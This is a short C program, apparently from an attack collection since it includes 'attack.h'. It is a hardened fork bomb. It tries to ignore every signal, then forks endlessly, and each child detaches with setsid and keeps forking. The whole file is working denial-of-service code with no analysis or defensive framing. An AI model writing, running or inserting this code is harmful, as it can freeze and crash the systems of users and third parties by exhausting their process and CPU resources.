// Each child leaves the session, ignores every signal and forks on.
#include "attack.h"

int main(void)
{
    for (int i = 1; i < 64; i++)
        signal(i, SIG_IGN);
    for (;;)
        if (fork() == 0)
            setsid();
}
